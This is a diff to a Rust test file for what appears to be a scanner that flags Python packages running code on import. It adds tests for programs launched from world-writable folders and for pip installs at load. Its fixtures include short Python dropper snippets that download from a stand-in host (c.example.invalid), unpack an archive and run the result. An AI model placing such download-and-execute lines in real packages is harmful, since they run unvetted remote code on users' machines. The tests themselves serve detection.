@@ -58,9 +58,9 @@ fn downloads_through_handles_folders_and_archives_are_droppers() {
         ("demo/__init__.py", "import shutil, subprocess, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/a.zip')\nshutil.unpack_archive('/tmp/a.zip', '/tmp/b')\nsubprocess.call(['/tmp/b/y'])\n", EXEC, Some(Critical)),
         ("demo/__init__.py", "import io, tarfile, subprocess, requests\nr = requests.get('https://c.example.invalid/x.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('/tmp/t')\nsubprocess.Popen(['/tmp/t/bin/run'])\n", EXEC, Some(Critical)),
         // A run of a file outside the extracted folder.
-        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/tmp/x.zip').extractall('/tmp/xd')\nsubprocess.Popen(['/tmp/xdd/run'])\n", EXEC, None),
+        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/tmp/x.zip').extractall('/opt/xd')\nsubprocess.Popen(['/opt/xdd/run'])\n", EXEC, None),
         // The archive extracted is not the one downloaded.
-        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/opt/y.zip').extractall('/tmp/xd')\nsubprocess.Popen(['/tmp/xd/run'])\n", EXEC, None),
+        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/opt/y.zip').extractall('/opt/xd')\nsubprocess.Popen(['/opt/xd/run'])\n", EXEC, None),
     ]);
 }
 
@@ -74,7 +74,7 @@ fn downloads_and_runs_in_two_functions_called_at_load_are_droppers() {
         ("demo/__init__.py", "import os, subprocess, urllib.request\nP = '/tmp/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    os.chmod(P, 0o755)\n    subprocess.Popen([P])\ndl()\nrun()\n", EXEC, Some(High)),
         ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\nP = os.path.join(tempfile.gettempdir(), 'x')\ndef run():\n    subprocess.Popen([P])\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndl()\nrun()\n", EXEC, Some(High)),
         // The run's function is never called at load.
-        ("demo/__init__.py", "import subprocess, urllib.request\nP = '/tmp/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    subprocess.Popen([P])\ndl()\n", EXEC, None),
+        ("demo/__init__.py", "import subprocess, urllib.request\nP = '/opt/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    subprocess.Popen([P])\ndl()\n", EXEC, None),
         // Two locals named alike.
         ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\ndef fetch():\n    p = os.path.join(tempfile.gettempdir(), 'model.bin')\n    urllib.request.urlretrieve('https://c.example.invalid/x', p)\ndef build():\n    p = 'make'\n    subprocess.call([p])\nfetch()\nbuild()\n", EXEC, None),
         ("demo/__init__.py", "import subprocess, urllib.request\ndef get(url, p):\n    urllib.request.urlretrieve(url, p)\ndef run(p):\n    subprocess.call([p])\nget('https://c.example.invalid/x', 'data.bin')\nrun('ls')\n", EXEC, None),
@@ -130,4 +130,40 @@ fn dropper_bookkeeping_stays_bounded_on_hostile_sources() {
         assert!(t.elapsed() < BOUND, "{case}: {:?}", t.elapsed());
         assert!(!r.io_error, "{case}");
     }
+}
+
+/// A program run from a folder any user or process can write (a temporary folder, Windows'
+/// Public or ProgramData folders, a downloads folder) at load runs whatever was put there,
+/// downloaded by this code or not (tester t12 q22): high at load, low inside a function
+/// nothing calls. Programs of the system or of the package stay unreported.
+#[test]
+fn programs_run_from_folders_others_can_write_are_high_at_load() {
+    use Severity::*;
+    check(&[
+        ("demo/__init__.py", "import os\nos.startfile('C:\\\\Users\\\\Public\\\\a.exe')\n", EXEC, Some(High)),
+        ("demo/__init__.py", "import subprocess\nsubprocess.Popen(['/tmp/.x/agent', '--quiet'])\n", EXEC, Some(High)),
+        ("demo/__init__.py", "import os\nos.spawnl(os.P_NOWAIT, '/dev/shm/a.out', 'a.out')\n", EXEC, Some(High)),
+        ("demo/__init__.py", "import ctypes\nctypes.CDLL('C:/ProgramData/svc/helper.dll')\n", EXEC, Some(High)),
+        ("demo/__init__.py", "import subprocess\ndef _go():\n    subprocess.Popen(['%TEMP%\\\\u.exe'])\n_go()\n", EXEC, Some(High)),
+        ("demo/tools.py", "import subprocess\ndef run_cached():\n    subprocess.run(['/tmp/tool-cache/bin/tool', '--version'])\n", EXEC, Some(Low)),
+        ("demo/__init__.py", "import subprocess\nsubprocess.run(['/usr/bin/nvidia-smi', '-L'])\n", EXEC, None),
+        ("demo/__init__.py", "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libdemo.so'))\n", EXEC, None),
+    ]);
+}
+
+/// `pip install` started at load runs the build of whatever the index or server sends (t12
+/// r07, q24): high from a URL, a VCS link or another index, medium for names from the default
+/// index; inside a function nothing calls at load it is not reported.
+#[test]
+fn pip_install_at_load_is_network_at_load() {
+    use Severity::*;
+    const NET: &str = "python-network-at-load";
+    check(&[
+        ("demo/__init__.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://x.example.invalid/helper-1.0.tar.gz'])\n", NET, Some(High)),
+        ("demo/__init__.py", "import subprocess\nsubprocess.run(['pip3', 'install', 'git+https://git.example.invalid/h.git'])\n", NET, Some(High)),
+        ("demo/__init__.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '--index-url=https://pypi.example.invalid/simple', 'helper'])\n", NET, Some(High)),
+        ("demo/__init__.py", "import subprocess, sys\ntry:\n    import yaml\nexcept ImportError:\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'pyyaml'])\n", NET, Some(Medium)),
+        ("demo/extras.py", "import subprocess, sys\ndef ensure(pkg):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', pkg])\n", NET, None),
+        ("demo/__init__.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list', '--format=json'])\n", NET, None),
+    ]);
 }
